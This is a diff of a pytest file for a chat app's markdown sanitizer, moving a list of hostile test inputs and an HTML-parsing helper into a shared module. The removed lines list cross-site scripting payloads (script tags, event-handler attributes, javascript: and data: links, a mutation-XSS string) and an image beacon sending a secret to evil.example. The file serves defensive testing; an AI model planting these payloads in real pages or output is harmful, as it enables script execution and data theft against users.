@@ -1,39 +1,10 @@
 """Assistant markdown is rendered, highlighted and sanitized; nothing a model writes can run."""
 
-from html.parser import HTMLParser
-
 import pytest
 
 from conversations.chat.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_markdown
-from tests.conftest import add_reply
-
-
-class Elements(HTMLParser):
-    """The real elements and attributes of an HTML fragment (text that only looks like tags is not one)."""
-
-    def __init__(self, html):
-        super().__init__()
-        self.found = []
-        self.feed(html)
-
-    def handle_starttag(self, tag, attrs):
-        self.found.append((tag, dict(attrs)))
-
-
-HOSTILE = [
-    "<script>window.pwned = 1</script>",
-    '<img src="x" onerror="window.pwned=1">',
-    "[click](javascript:window.pwned=1)",
-    '<a href="javascript:alert(1)">x</a>',
-    "<svg onload=alert(1)><circle r=1 /></svg>",
-    '<iframe src="https://evil.example/"></iframe>',
-    "![beacon](https://evil.example/track.png?c=secret)",
-    '<div style="background:url(https://evil.example/x)">x</div>',
-    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
-    "```html\n<script>alert(1)</script>\n```",
-    '<p onclick="alert(1)">hi</p>',
-    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
-]
+from tests.factories import add_reply
+from tests.markup import HOSTILE, Elements
 
 
 @pytest.mark.parametrize("payload", HOSTILE)
